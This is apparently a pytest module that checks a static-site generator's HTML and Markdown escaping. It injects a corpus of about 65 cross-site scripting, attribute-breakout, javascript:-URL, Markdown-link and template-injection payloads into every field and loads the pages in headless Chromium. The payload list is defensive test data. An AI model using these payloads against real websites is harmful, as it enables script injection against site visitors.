"""Hostile text in the real browser (issue 7, part 6). Each payload of a corpus (script
tags, event handlers, attribute and element breakouts, script and data URLs, template and
format strings, HTML comments and CDATA, entities, Unicode tricks, very long strings and
Markdown syntax) is put into every text field of its own pledge, activity and follow-up,
and the site is rendered with `lofte render --format all`, with `lofte report` beside it.

Every HTML page is loaded in headless Chromium with JavaScript on and the pages' CSP
bypassed, so that the escaping alone stands between a payload and the page; the pledge pages
are loaded once more as published, CSP in force. A payload that ran would set
`window.__pwned`, write `document.title` or fetch `pwned` from the local server. None may;
no dialog may open; no request may leave the local server or ask it for a file the site does
not have; and no element, event handler, inline style or address the templates do not make
may be in the DOM. Every payload must read back as the text it is, and stand escaped in the
HTML source as often as a plain text does. The Markdown must hold no raw HTML, and a
CommonMark renderer that lets raw HTML and every link through must make no markup of it."""

from __future__ import annotations

import functools
import os
import queue
import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import Future
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markupsafe import escape
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, sync_playwright

from lofte_cli.data.loader import load_catalog
from lofte_cli.publish.report import render_report
from lofte_cli.publish.site_model import build_site
from lofte_cli.publish.templates import environment
from tests.browser import test_browser
from tests.helpers import REPO, write_tree

# Slow: 65 payloads rendered, and every page loaded in Chromium.
pytestmark = pytest.mark.slow

# From test_browser: the fixture that finds (or installs) Debian's Chromium, and helpers.
foreign = test_browser.foreign

LOFTE = str(Path(sys.executable).parent / "lofte")
TODAY = "2026-11-26"
# What an executed payload does: a global, the document title and a request to our server.
# No spaces and no quotes, so that it also works as an unquoted attribute value.
MARK = "window.__pwned=1,document.title=/PWNED/.source,fetch(/pwned/.source)"
M = MARK

# --- the corpus ----------------------------------------------------------------------------

PAYLOADS: dict[str, str] = {
    # script tags
    "script": f"<script>{M}</script>",
    "script-alert": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-nested": f"<scr<script>ipt>{M}</scr</script>ipt>",
    "script-case": f"<ScRiPt >{M}</sCrIpT >",
    "script-in-svg": f"<svg><script>{M}</script></svg>",
    # event handlers
    "img-onerror": f"<img src=x onerror={M}>",
    "img-onerror-alert": "<img src=x onerror=alert(1)>",
    "svg-onload": f"<svg onload={M}>",
    "svg-slash-onload": f"<svg/onload={M}>",
    "body-onload": f"<body onload={M}>",
    "details-ontoggle": f"<details open ontoggle={M}>",
    "input-autofocus": f"<input autofocus onfocus={M}>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "video-source": f"<video><source onerror={M}></video>",
    "style-onload": f"<style onload={M}>*{{}}</style>",
    # attribute breakouts
    "dq-breakout": f'" autofocus onfocus="{M}" x="',
    "sq-breakout": f"' autofocus onfocus='{M}' x='",
    "bt-breakout": f"` autofocus onfocus=`{M}` x=`",
    "dq-tag": f'"><img src=x onerror={M}>',
    "sq-tag": f"'><svg onload={M}>",
    "unquoted": f" autofocus onfocus={M} ",
    "style-attr": f'" style="background:url(javascript:{M})',
    # breaking out of elements
    "title": f"</title><script>{M}</script>",
    "style": f"</style><script>{M}</script>",
    "textarea": f"</textarea><img src=x onerror={M}>",
    "svg-title": f"</title></rect></svg><img src=x onerror={M}>",
    "comment-breakout": f"--><script>{M}</script><!--",
    "comment": f"<!-- <script>{M}</script> -->",
    "cdata": f"<![CDATA[<script>{M}</script>]]>",
    "cdata-svg": f"<svg><![CDATA[</svg><img src=x onerror={M}>]]></svg>",
    "noscript-mxss": f'<noscript><p title="</noscript><img src=x onerror={M}>">',
    "math-mxss": f"<math><mtext><table><mglyph><style><img src=x onerror={M}>",
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{M}">',
    "base": '<base href="https://evil.example/">',
    "form": f'<form action="https://evil.example/"><button formaction="javascript:{M}">x',
    # URLs as text (a link title; the link address itself is http(s) by schema)
    "javascript-url": f"javascript:{M}",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "a-javascript": f'<a href="javascript:{M}">klicka</a>',
    "markdown-link": f"[klicka](javascript:{M})",
    "markdown-link-backslash": f"\\[klicka](javascript:{M})",
    "markdown-link-backslash-http": "\\[klicka](https://evil.example/phish)",
    "markdown-link-close": "x](https://evil.example/closed)",
    "markdown-link-close-js": "x](javascript:alert(document.domain))",
    "markdown-image": "![x](https://evil.example/x.png)",
    "markdown-autolink": f"<https://evil.example/> <javascript:{M}>",
    "markdown-reference": f"[klicka]\n\n[klicka]: javascript:{M}",
    "markdown-blocks": f"x\n\n<div onmouseover={M}>\n\n# Rubrik\n\n| a | b |\n| - | - |\n| c | d |",
    # template and format strings
    "jinja": "{{7*7}} {{ config }} {% raw %}{{ x }}{% endraw %} {# c #}",
    "jinja-ssti": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in (1,) %}X{% endfor %}",
    "format-string": "{party} {0} {commitment!r} %s %(x)s ${7*7} #{7*7}",
    # encodings that must stay text
    "entities": f"&lt;script&gt;{M}&lt;/script&gt; &amp;lt;",
    "numeric-entities": f"&#60;img src=x onerror={M}&#62; &#x3C;svg onload={M}&#x3E;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "js-escapes": f"\\u003cscript\\u003e{M}\\u003c/script\\u003e \\x3cimg src=x\\x3e",
    # Unicode
    "fullwidth": f"＜script＞{M}＜/script＞",
    "zero-width": f"<scr\u200dipt>{M}</scr\u200dipt>\u200b<img\u200b src=x onerror={M}>",
    "rtl-override": f"\u202e<img src=x onerror={M}>\u202c \u2066x\u2069 \u202egnp.exe",
    "lookalikes": f"\ufe64script\ufe65{M}\ufe64/script\ufe65 \u2039script\u203a \u017fcript",
    "combining": f"<\u0338script>{M}</script\u0338>",
    "bom": f"\ufeff<script>{M}</script>",
    "controls": f"<img\x0bsrc=x\x0conerror={M}>\t",
    # size
    "long": "A" * 20_000 + f"<script>{M}</script>",
    "deep": "<b>" * 2_000 + f"<img src=x onerror={M}>",
    # lines
    "multiline": f"Rad ett\n\n<script>{M}</script>\n\n- punkt\n> citat",
}
CONTROL = "Kontrolltext utan konstigheter"  # p-00: where and how often a field shows

# Link addresses: the schema allows these (http(s), a valid URI), so they validate. Every
# host in the corpus is under .example, which never resolves.
VALID_URLS = [
    "https://kommun.example/a",
    "https://kommun.example/'onmouseover='window.__pwned=1'",
    "https://kommun.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://kommun.example/?q=%22%3E%3Csvg%20onload%3Dalert(1)%3E",
    "https://javascript:alert(1)@kommun.example/",
    "https://kommun.example/#javascript:alert(1)",
]
# Link addresses the schema rejects. `lofte validate` fails on them, but `lofte render`
# refuses only personal data, so they are published: their escaping is tested too.
INVALID_URLS = [
    f'https://x.example/"><script>{M}</script>',
    f'https://x.example/#"onmouseover={M}//',
    f'https://x.example/#"autofocus/onfocus="{M}',
    f"https://x.example/'><img src=x onerror={M}>",
    f"https://x.example/`autofocus/onfocus=`{M}",
    f"https://x.example/ onmouseover={M}",
    f"javascript:{M}",
    f"JavaScript:{M}",
    f" javascript:{M}",
    f"java\tscript:{M}",
    f"data:text/html,<script>{M}</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https:evil.example",
]

PLEDGE_KEYS = {"p-00": CONTROL} | {f"p-{i:02d}": p for i, p in enumerate(PAYLOADS.values(), 1)}
NAMES = {"p-00": "control"} | {f"p-{i:02d}": n for i, n in enumerate(PAYLOADS, 1)}
ACTIVITY = "2023-05-05-x"
TABS = 4  # pages loaded at once
PAGE_KINDS = {  # a pledge's pages, by kind
    "pledge": "{key}/index.html",
    "party": "{key}/parties/kommun.html",
    "activity": f"{{key}}/activities/{ACTIVITY}.html",
    "report": "report-{key}.html",
}


def yaml_str(text: str) -> str:
    """`text` as a YAML double-quoted scalar with only printable ASCII in it."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '\\"':
            out.append("\\" + ch)
        elif 0x20 <= code < 0x7F:
            out.append(ch)
        elif code <= 0xFF:
            out.append(f"\\x{code:02x}")
        elif code <= 0xFFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


def pledge_files(key: str, text: str, urls: list[str]) -> dict[str, str]:
    """A pledge, an activity and a follow-up with `text` in every text field, and `urls` as
    the addresses of its sources and the activity's links."""
    q = yaml_str(text)
    links = "".join(f"  - {{title: {q}, url: {yaml_str(u)}}}\n" for u in urls)
    links += "".join(f"  - {yaml_str(u)}\n" for u in urls)  # untitled: the address is shown
    sources = "".join(f"  - {{title: {q}, url: {yaml_str(u)}}}\n" for u in urls)
    return {
        f"data/pledges/{key}/pledge.yaml": (
            f"id: {key}\ntitle: {q}\nlanguage: sv\narea: {q}\n"
            "period: {start: 2023-01-01, end: 2024-12-31}\n"
            f"parties:\n  kommun: {{name: {q}, kind: municipality}}\n"
            f"groups: {{alla: [kommun]}}\ngoal: {q}\nfocus_areas: {{f: {q}}}\n"
            "commitments:\n"
            f"  - {{id: kommun-1, by: alla, text: {q}, condition: {q}, focus: [f],"
            f" expect: {{count: 1, of: {q}}}}}\n"
            f"  - {{id: kommun-2, by: kommun, text: {q}}}\n"
            f"indicators:\n  - {{id: i, name: {q}, unit: {q}, direction: increase,"
            f" baseline: {{value: 1, date: 2022-10-01, source: {q}}}, target: 3}}\n"
            f"signatories:\n  - {{name: {q}, role: {q}, party: kommun}}\n"
            f"sources:\n{sources}notice: {q}\n"
        ),
        f"data/pledges/{key}/activities/{ACTIVITY}.yaml": (
            f"id: {ACTIVITY}\ndate: 2023-05-05\nstatus: done\nby: [kommun]\n"
            f"commitments: [kommun-1]\ntitle: {q}\ndescription: {q}\nplace: {q}\n"
            f"partners: [{q}]\ntarget_groups: [{q}]\nparticipants: 12\nhours: 3\n"
            f"measures:\n  ? {q}\n  : 2\nlinks:\n{links}"  # explicit: a key of any length
        ),
        f"data/pledges/{key}/followups/2023-12-01.yaml": (
            f"date: 2023-12-01\nperiod: {q}\n"
            f"assessments: {{kommun-1: {{status: ongoing, comment: {q}}},"
            f" kommun-2: {{status: done, comment: {q}}}}}\n"
            f"indicators: {{i: {{value: 2, source: {q}, comment: {q}}}}}\n"
        ),
    }


# --- building, rendering and serving the site -----------------------------------------------


@dataclass
class Built:
    root: Path  # what the server serves: main/ and unvalidated/
    html: list[str]  # every HTML page, relative to root
    markdown: list[str]  # every Markdown file, relative to root
    allowed_urls: set[str]  # the http(s) addresses the data links to
    validate_main: subprocess.CompletedProcess[str]
    validate_unvalidated: subprocess.CompletedProcess[str]
    served: list[tuple[str, str, str]] = field(default_factory=list)  # method, path, status


def lofte(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [LOFTE, "--no-cache", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, "LOFTE_TODAY": TODAY},
        check=False,
        timeout=120,
    )


def write_reports(data_root: Path, out: Path) -> None:
    """What `lofte report` writes for each pledge, as HTML and as Markdown, put beside the
    site's index (its links are relative to that)."""
    site = build_site(load_catalog(data_root, use_cache=False).catalog, as_of=date(2026, 11, 26))
    env = environment()
    for key, data in site.catalog.pledges.items():
        for fmt, suffix in (("html", "html"), ("markdown", "md")):
            text = render_report(
                site, env, key, start=data.pledge.start, end=date(2024, 12, 31), output_format=fmt
            )
            (out / f"report-{key}.{suffix}").write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    base = tmp_path_factory.mktemp("injection")
    root = base / "www"
    main, unvalidated = base / "main-data", base / "unvalidated-data"
    files: dict[str, str] = {}
    for key, text in PLEDGE_KEYS.items():
        files |= pledge_files(key, text, VALID_URLS)
    write_tree(main, files)
    write_tree(unvalidated, pledge_files("u", PAYLOADS["dq-tag"], INVALID_URLS))

    validate_main = lofte("validate", cwd=main)
    rendered = lofte("render", "--out", str(root / "main"), "--format", "all", cwd=main)
    assert rendered.returncode == 0, rendered.stderr
    write_reports(main, root / "main")
    validate_unvalidated = lofte("validate", cwd=unvalidated)
    # render refuses what validate rejects; forced, it publishes what is valid (the rejected
    # activity is left out), and those pages and the reports made straight from the rejected
    # data are checked as well.
    out = root / "unvalidated"
    refused = lofte("render", "--out", str(out), "--format", "all", cwd=unvalidated)
    assert refused.returncode == 1
    assert refused.stderr.endswith("or add --force to leave them out\n")
    unchecked = lofte("render", "--out", str(out), "--format", "all", "--force", cwd=unvalidated)
    assert unchecked.returncode == 0, unchecked.stderr
    write_reports(unvalidated, out)
    return Built(
        root,
        sorted(p.relative_to(root).as_posix() for p in root.rglob("*.html")),
        sorted(p.relative_to(root).as_posix() for p in root.rglob("*.md")),
        set(VALID_URLS)
        | {u for u in INVALID_URLS if u.startswith(("https://", "http://"))}
        | {"https://www.digg.se/tdosanmalan"},  # the accessibility statement's own link
        validate_main,
        validate_unvalidated,
    )


class RecordingHandler(test_browser.QuietHandler):
    """Serves the site and notes every request it answers."""

    def __init__(self, *args: Any, log: list[tuple[str, str, str]], **kwargs: Any) -> None:
        self.log = log
        super().__init__(*args, **kwargs)

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        self.log.append((self.command, self.path, str(getattr(code, "value", code))))


@pytest.fixture(scope="module")
def server(built: Built) -> Iterator[str]:
    handler = functools.partial(RecordingHandler, directory=str(built.root), log=built.served)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()
    httpd.server_close()
    thread.join()


class BrowserThread:
    """One headless Chromium for this module, driven from a thread of its own: Playwright's
    sync API allows one instance per thread, and test_browser's session-wide browser holds
    the main thread's when both files run. `run(f, ...)` calls f(browser, ...) there."""

    def __init__(self, executable: Path) -> None:
        self.jobs: queue.Queue[tuple[Callable[..., Any], tuple[Any, ...], Future[Any]] | None]
        self.jobs = queue.Queue()
        self.started: Future[None] = Future()
        self.thread = threading.Thread(target=self._serve, args=(executable,), daemon=True)
        self.thread.start()
        self.started.result(timeout=60)

    def _serve(self, executable: Path) -> None:
        try:
            with sync_playwright() as playwright:
                browser = playwright.chromium.launch(
                    executable_path=str(executable), args=test_browser.CHROMIUM_ARGS
                )
                self.started.set_result(None)
                while (job := self.jobs.get()) is not None:
                    function, args, done = job
                    try:
                        done.set_result(function(browser, *args))
                    except BaseException as error:  # handed to the test that asked
                        done.set_exception(error)
                browser.close()
        except BaseException as error:
            if not self.started.done():
                self.started.set_exception(error)
            raise

    def run(self, function: Callable[..., Any], *args: Any) -> Any:
        done: Future[Any] = Future()
        self.jobs.put((function, args, done))
        return done.result(timeout=300)

    def close(self) -> None:
        self.jobs.put(None)
        self.thread.join(timeout=60)


@pytest.fixture(scope="module")
def browser(chromium: Path) -> Iterator[BrowserThread]:
    thread = BrowserThread(chromium)
    yield thread
    thread.close()


# --- looking at a page ------------------------------------------------------------------------

# Runs before any script of the page, whatever its CSP: notes every write to document.title
# and every CSP violation, and counts two frames from the load event.
WATCH = """(() => {
  window.__titleWrites = [];
  window.__csp = [];
  const d = Object.getOwnPropertyDescriptor(Document.prototype, "title");
  Object.defineProperty(Document.prototype, "title", {
    configurable: true,
    enumerable: d.enumerable,
    get() { return d.get.call(this); },
    set(v) { window.__titleWrites.push(String(v)); d.set.call(this, v); },
  });
  document.addEventListener("securitypolicyviolation",
    (e) => window.__csp.push(e.violatedDirective + " " + e.blockedURI));
  window.__frames = 0;
  addEventListener("load", () => {
    const tick = () => { if (++window.__frames < 2) requestAnimationFrame(tick); };
    requestAnimationFrame(tick);
  });
})();"""

# Two frames after the load event (autofocus, toggle events and image errors have fired by
# then): the markers, and every element, event handler, inline style or address in the DOM
# that the templates do not make.
AUDIT = """async ([allowedTags, allowedUrls]) => {
  while (window.__frames < 2) await new Promise((r) => requestAnimationFrame(r));
  await new Promise((r) => setTimeout(r));
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.localName;
    if (!allowedTags.includes(tag)) bad.push(`<${tag}>`);
    for (const { name, value } of Array.from(el.attributes)) {
      const n = name.toLowerCase();
      if (n.startsWith("on") || ["style", "srcdoc", "formaction", "autofocus"].includes(n)) {
        bad.push(`${tag}[${n}]`);
      }
      if (["href", "src", "action", "xlink:href", "data", "poster"].includes(n)) {
        const v = value.trim();
        if ((/^[a-z][a-z0-9+.-]*:/i.test(v) || v.startsWith("//")) && !allowedUrls.includes(v)) {
          bad.push(`${tag}[${n}=${v.slice(0, 120)}]`);
        }
      }
    }
  }
  return {
    pwned: typeof window.__pwned !== "undefined",
    focused: typeof window.__focused !== "undefined",
    titleWrites: window.__titleWrites,
    csp: window.__csp,
    title: document.title,
    bad,
    h1: Array.from(document.querySelectorAll("h1"), (h) => h.textContent),
    h2Links: Array.from(document.querySelectorAll("h2 a"), (a) => a.textContent),
  };
}"""

TEMPLATE_TAGS = sorted(
    {"html", "head", "body"}
    | {
        tag.lower()
        for path in (REPO / "templates" / "html").glob("*.html")
        for tag in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", path.read_text(encoding="utf-8"))
    }
)
MARKDOWN_TAGS = sorted(
    {"p", "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}
    | {"ul", "ol", "li", "strong", "em", "a", "br", "blockquote", "code", "pre", "hr"}
)


class Markup(HTMLParser):
    """The same audit as AUDIT, on HTML text: what a page's source makes of itself."""

    def __init__(self, tags: list[str], urls: set[str]) -> None:
        super().__init__()
        self.allowed, self.urls, self.bad = set(tags), urls, []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "autofocus"):
                self.bad.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "xlink:href", "data", "poster"):
                v = (value or "").strip()
                if (re.match(r"[a-z][a-z0-9+.-]*:", v, re.I) or v.startswith("//")) and (
                    v not in self.urls
                ):
                    self.bad.append(f"{tag}[{name}={v[:120]}]")


def static_audit(text: str, tags: list[str], urls: set[str]) -> list[str]:
    parser = Markup(tags, urls)
    parser.feed(text)
    parser.close()
    return parser.bad


@dataclass
class Visit:
    rel: str
    state: dict[str, Any]


@dataclass
class Watched:
    visits: list[Visit]
    dialogs: list[str]
    requested: list[str]


def visit_all(
    browser: Browser, site: str, pages: list[str], bypass_csp: bool, urls: list[str]
) -> Watched:
    """Load each page with JavaScript on, a few tabs of one context at a time; note every
    request and dialog (and dismiss it). Nothing is routed (routing every request through
    Python halves the speed): the corpus names only hosts under .example, which never
    resolve, so a request that would leave is seen and goes nowhere."""
    watched = Watched([], [], [])
    context: BrowserContext = browser.new_context(java_script_enabled=True, bypass_csp=bypass_csp)
    context.set_default_timeout(15_000)
    context.add_init_script(WATCH)
    context.on("request", lambda request: watched.requested.append(request.url))
    tabs: list[Page] = [context.new_page() for _ in range(min(TABS, len(pages)))]
    showing: dict[int, str] = {}

    def on_dialog(tab: int, dialog: Dialog) -> None:
        watched.dialogs.append(f"{showing[tab]}: {dialog.type} {dialog.message!r}")
        dialog.dismiss()

    for i, tab in enumerate(tabs):
        tab.on("dialog", functools.partial(on_dialog, i))
    for start in range(0, len(pages), len(tabs)):
        batch = list(enumerate(pages[start : start + len(tabs)]))
        for i, rel in batch:  # start every tab's navigation, then wait for each
            showing[i] = rel
            tabs[i].evaluate("(url) => { location.href = url; }", site + rel)
        for i, rel in batch:
            tabs[i].wait_for_url(site + rel, wait_until="load")
            watched.visits.append(Visit(rel, tabs[i].evaluate(AUDIT, [TEMPLATE_TAGS, urls])))
    context.close()
    return watched


def ran(watched: Watched) -> list[str]:
    """Every sign that a payload ran, by page."""
    found = list(watched.dialogs)
    for v in watched.visits:
        if v.state["pwned"]:
            found.append(f"{where(v.rel)}: window.__pwned is set")
        if v.state["titleWrites"] or v.state["title"] == "PWNED":
            found.append(f"{where(v.rel)}: document.title written: {v.state['titleWrites']}")
    return found


def unexpected_requests(built: Built, since: int, watched: Watched, site: str) -> list[str]:
    """Requests that left the local server, asked it for `pwned`, or for what it lacks."""
    bad = [f"left the local server: {url}" for url in foreign(watched.requested, site)]
    for method, path, status in built.served[since:]:
        fine = method == "GET" and status in ("200", "304") and "pwned" not in path
        if not fine and path != "/favicon.ico":
            bad.append(f"served {method} {path} → {status}")
    return bad


def where(rel: str) -> str:
    """A page with the name of the payload it shows, for failure messages."""
    match = re.search(r"\b(p-\d\d)\b", rel)
    return f"{rel} ({NAMES[match.group(1)]})" if match else rel


def collapse(text: str) -> str:
    """Text as document.title gives it: ASCII whitespace collapsed and stripped."""
    return " ".join(t for t in re.split(r"[ \t\n\f\r]+", text) if t)


# --- tests -----------------------------------------------------------------------------------


def test_the_corpus_is_large_and_the_data_validates(built: Built) -> None:
    assert len(PAYLOADS) >= 30
    assert built.validate_main.returncode == 0, built.validate_main.stdout[-3000:]
    assert f"{len(PLEDGE_KEYS) * 3} files checked: 0 errors" in built.validate_main.stdout
    # the hostile addresses are caught by the schema, and only they are
    assert built.validate_unvalidated.returncode == 1
    errors = [line for line in built.validate_unvalidated.stdout.splitlines() if ": error " in line]
    # Each of the 14 hostile addresses stands three times: as a titled link and as a bare
    # link of the activity (links[1..14], links[15..28]), and as a source of the pledge.
    assert len(INVALID_URLS) == 14
    activity, pledge = "data/pledges/u/activities/2023-05-05-x.yaml", "data/pledges/u/pledge.yaml"
    expected = [f"{activity} L116 links[{i}].url" for i in range(1, 15)]
    expected += [f"{activity} L116 links[{i}]" for i in range(15, 29)]
    expected += [f"{pledge} L116 sources[{i}].url" for i in range(1, 15)]
    found = [
        f"{e.split(':')[0]} {e.split(' error ')[1].split(' ')[0]} "
        f"{e.split(' error ')[1].split(' ')[1].rstrip(':')}"
        for e in errors
    ]
    assert found == expected
    assert all(e.endswith("is not an http(s) address") for e in errors)


def test_the_harness_sees_a_payload_run(browser: BrowserThread, built: Built, server: str) -> None:
    """Planted pages with the site's CSP and unescaped payloads: with the CSP bypassed the
    marker, the title write, the dialog, autofocus, the stray request and the audit all
    fire; with the CSP in force nothing runs, and the violation is seen."""
    csp = (built.root / "main" / "index.html").read_text(encoding="utf-8").split("\n")[5]
    assert "Content-Security-Policy" in csp
    planted = {
        "main/planted-1.html": f"<img src=x onerror={M}><input autofocus onfocus=__focused=1>",
        "main/planted-2.html": "<svg onload=alert(1)>",  # apart: a dialog stops autofocus
    }
    for rel, body in planted.items():
        (built.root / rel).write_text(
            f'<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8">{csp}<title>t</title>'
            f"</head><body><h1>x</h1>{body}</body></html>",
            encoding="utf-8",
        )
    try:
        since = len(built.served)
        bypassed = browser.run(visit_all, server, list(planted), True, [])
        one, two = (v.state for v in bypassed.visits)
        assert one["pwned"] and one["titleWrites"] == ["PWNED"] and one["title"] == "PWNED"
        assert one["focused"] and {"<img>", "img[onerror]", "input[autofocus]"} <= set(one["bad"])
        assert "svg[onload]" in two["bad"]
        assert bypassed.dialogs == ["main/planted-2.html: alert '1'"]
        assert ("GET", "/main/x", "404") in built.served[since:]  # the <img>
        assert any(path == "/main/pwned" for _, path, _ in built.served[since:])
        assert len(ran(bypassed)) == 3 and unexpected_requests(built, since, bypassed, server)

        enforced = browser.run(visit_all, server, list(planted), False, [])
        one, two = (v.state for v in enforced.visits)
        assert not ran(enforced) and not one["focused"]
        assert any(c.startswith("script-src") for c in one["csp"] + two["csp"]), one["csp"]
    finally:
        for rel in planted:
            (built.root / rel).unlink()


def test_no_payload_runs_on_any_page(browser: BrowserThread, built: Built, server: str) -> None:
    """Every page, CSP bypassed: nothing runs, nothing is fetched, nothing is markup, and
    every payload reads back as the text it is (escaped once, not twice, not cut)."""
    since = len(built.served)
    urls = sorted(built.allowed_urls)
    watched = browser.run(visit_all, server, built.html, True, urls)
    assert len(watched.visits) == len(built.html) >= 4 * len(PLEDGE_KEYS)
    assert not ran(watched), "payloads ran:\n" + "\n".join(ran(watched))
    assert not unexpected_requests(built, since, watched, server)
    markup = [f"{where(v.rel)}: {v.state['bad']}" for v in watched.visits if v.state["bad"]]
    assert not markup, "markup the templates do not make:\n" + "\n".join(markup)

    states = {v.rel: v.state for v in watched.visits}
    wrong = []
    for key, text in PLEDGE_KEYS.items():
        pledge = states[f"main/{key}/index.html"]
        if pledge["h1"] != [text] or pledge["title"] != collapse(text):
            wrong.append(
                f"{key} pledge page: h1 {pledge['h1']!r:.80}, title {pledge['title']!r:.80}"
            )
        for kind in ("party", "activity"):
            if states["main/" + PAGE_KINDS[kind].format(key=key)]["h1"] != [text]:
                wrong.append(f"{key} {kind} page h1")
        report = states["main/" + PAGE_KINDS["report"].format(key=key)]["h1"]
        if len(report) != 1 or not report[0].endswith(": " + text):
            wrong.append(f"{key} report h1")
        if text not in states["main/index.html"]["h2Links"]:
            wrong.append(f"{key} missing on the index")
    assert not wrong, "\n".join(wrong)


def test_pledge_pages_as_published(browser: BrowserThread, built: Built, server: str) -> None:
    """The index and every pledge page (where every field of a pledge shows) with their CSP in
    force, as a reader gets them: nothing runs and nothing even tries (no CSP violation)."""
    pages = [p for p in built.html if p.count("/") <= 2 and p.endswith("index.html")]
    assert len(pages) >= len(PLEDGE_KEYS) + 1
    since = len(built.served)
    watched = browser.run(visit_all, server, pages, False, sorted(built.allowed_urls))
    assert not ran(watched), "payloads ran:\n" + "\n".join(ran(watched))
    assert not unexpected_requests(built, since, watched, server)
    violations = [f"{where(v.rel)}: {v.state['csp']}" for v in watched.visits if v.state["csp"]]
    assert not violations, "CSP violations:\n" + "\n".join(violations)
    assert not [v.rel for v in watched.visits if v.state["bad"]]


def test_every_payload_is_escaped_in_the_html_source(built: Built) -> None:
    """Each payload stands escaped in a page exactly as often as the control text does in the
    same place, and the source makes no markup of it."""
    main = built.root / "main"

    def count(rel: str, text: str) -> int:
        return (main / rel).read_text(encoding="utf-8").count(str(escape(text)))

    control = {kind: count(rel.format(key="p-00"), CONTROL) for kind, rel in PAGE_KINDS.items()}
    assert control["pledge"] >= 20 and control["activity"] >= 10, control
    wrong = []
    for key, text in PLEDGE_KEYS.items():
        for kind, rel in PAGE_KINDS.items():
            expected = control[kind] - (kind == "activity" and "\n\n" in text)  # paragraphs
            # <meta name="description"> and og:description cut a text of over 200 characters.
            expected -= 2 * (len(text) > 200)
            if (found := count(rel.format(key=key), text)) != expected:
                wrong.append(f"{key} ({NAMES[key]}) {kind}: {found} escaped, {expected} expected")
        # the title and the area of every pledge whose text holds this one
        expected = 2 * sum(str(escape(o)).count(str(escape(text))) for o in PLEDGE_KEYS.values())
        if (found := count("index.html", text)) != expected:
            wrong.append(f"{key} ({NAMES[key]}) index: {found} escaped, {expected} expected")
    assert not wrong, "\n".join(wrong)
    bad = []
    for rel in built.html:
        text = (built.root / rel).read_text(encoding="utf-8")
        bad += [f"{where(rel)}: {b}" for b in static_audit(text, TEMPLATE_TAGS, built.allowed_urls)]
    assert not bad, "\n".join(bad)


RAW_HTML = re.compile(r"<(?!br>)[a-zA-Z/!?]")


def test_markdown_output_has_no_raw_html(built: Built) -> None:
    # README.md and a report per pledge, and the index (and those of the unvalidated pledge)
    assert len(built.markdown) >= 2 * len(PLEDGE_KEYS) + 1
    bad = []
    for rel in built.markdown:
        text = (built.root / rel).read_text(encoding="utf-8")
        if "<script" in text.lower() or RAW_HTML.search(text):
            bad.append(f"{where(rel)}: {RAW_HTML.search(text)}")
    assert not bad, "\n".join(bad)


@pytest.fixture(scope="module")
def markdown_markup(built: Built) -> list[tuple[str, str]]:
    """(file, problem) for the markup a CommonMark renderer makes of the Markdown output,
    with raw HTML on and every link target taken (as lax as any renderer): relative links,
    the index's to each README.md, are the only ones the templates make."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True
    found = []
    for rel in built.markdown:
        html = md.render((built.root / rel).read_text(encoding="utf-8"))
        found += [(rel, bad) for bad in static_audit(html, MARKDOWN_TAGS, set())]
    return found


def test_markdown_makes_no_markup_or_link_of_user_text(
    markdown_markup: list[tuple[str, str]],
) -> None:
    """Neither raw HTML nor a link (a backslash before `[`, a `]` ending the index's link
    text) comes out of user text in the Markdown pages."""
    found = [f"{where(rel)}: {bad}" for rel, bad in markdown_markup]
    assert not found, "Markdown made markup of user text:\n" + "\n".join(found)


def test_markdown_escapes_ids_that_failed_validation(tmp_path: Path) -> None:
    files = pledge_files("p", CONTROL, ["https://kommun.example/"])
    bad_id = yaml_str(f"<img src=x onerror={M}>")
    files = {rel: text.replace("kommun-1", bad_id) for rel, text in files.items()}
    root = write_tree(tmp_path / "repo", files)
    assert lofte("validate", cwd=root).returncode == 1
    out = tmp_path / "site"
    refused = lofte("render", "--out", str(out), "--format", "markdown", cwd=root)
    assert refused.returncode == 1
    assert "data/pledges/p/activities/2023-05-05-x.yaml:5:15: error L115 commitments[1]: '<img" in (
        refused.stderr
    )
    assert not out.exists()
    forced = lofte("render", "--out", str(out), "--format", "markdown", "--force", cwd=root)
    assert forced.returncode == 0, forced.stderr
    assert "left out, not published: data/pledges/p/pledge.yaml:" in forced.stderr
    # The files with errors are left out, so the ids that failed are never printed.
    assert sorted(p.name for p in out.rglob("*")) == [".lofte-site.json", "README.md"]
    text = (out / "README.md").read_text(encoding="utf-8")
    assert "onerror" not in text
    assert not RAW_HTML.search(text), RAW_HTML.search(text)
